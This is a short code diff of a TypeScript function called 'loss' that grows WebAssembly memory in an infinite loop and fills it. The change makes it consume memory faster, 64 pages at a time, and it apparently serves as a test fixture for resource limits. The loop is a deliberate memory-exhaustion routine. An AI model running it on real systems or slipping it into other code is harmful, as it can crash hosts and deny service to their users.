@@ -3,7 +3,7 @@
 export function loss([x, y]: number[]): any { // HERE
   const memory = new WebAssembly.Memory({ initial: 1 });
   for (;;) {
-    const page = memory.grow(1);
-    new Uint8Array(memory.buffer, 65536 * page, 65536).fill(1);
+    const page = memory.grow(64);
+    new Uint8Array(memory.buffer, 65536 * page).fill(1);
   }
 }
